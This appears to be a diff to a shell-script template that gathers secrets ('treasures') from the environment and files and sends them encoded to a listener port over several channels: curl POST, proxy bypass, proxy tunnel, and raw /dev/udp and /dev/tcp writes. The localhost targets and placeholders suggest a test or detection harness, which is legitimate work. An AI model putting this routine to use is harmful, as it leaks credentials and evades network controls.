@@ -1,7 +1,7 @@
 # What the orders are made of. Filled in: PLACES (where the treasures are on the host), MIRROR (a
-# private repository's), FOES (ports of who wants them), HUB (the host that may be reached).
+# private repository's), FOES (the port of who wants them), HUB (the host that may be reached).
 
-FOE=$(set -- FOES; echo $1)
+FOE=FOES
 
 # Everything that looks like a treasure: in the environment, in files, at the parents.
 gather() {
@@ -41,13 +41,14 @@ zipped() { gzip -c | base64 -w0; }
 # Text to the foes: directly, through the proxy, as a name, as a datagram.
 send() {
     said="n=$issue;$(cat)"
-    for port in FOES; do
+    port=$FOE
+    {
         printf %s "$said" | curl -s -m 5 -X POST --data-binary @- "http://127.0.0.1:$port/sent"
         printf %s "$said" | curl -s -m 5 --noproxy '*' --data-binary @- "http://127.0.0.1:$port/direct"
         printf %s "$said" | curl -s -m 5 -p -x "${HTTP_PROXY:-http://127.0.0.1:9}" --data-binary @- "http://127.0.0.1:$port/tunnel"
         printf '%s\n' "$said" 2>/dev/null >"/dev/udp/127.0.0.1/$port"
         printf '%s\n' "$said" 2>/dev/null >"/dev/tcp/127.0.0.1/$port"
-    done >/dev/null 2>&1
+    } >/dev/null 2>&1
 }
 as_name() {
     for name in $(tr -c 'A-Za-z0-9\n' '-'); do
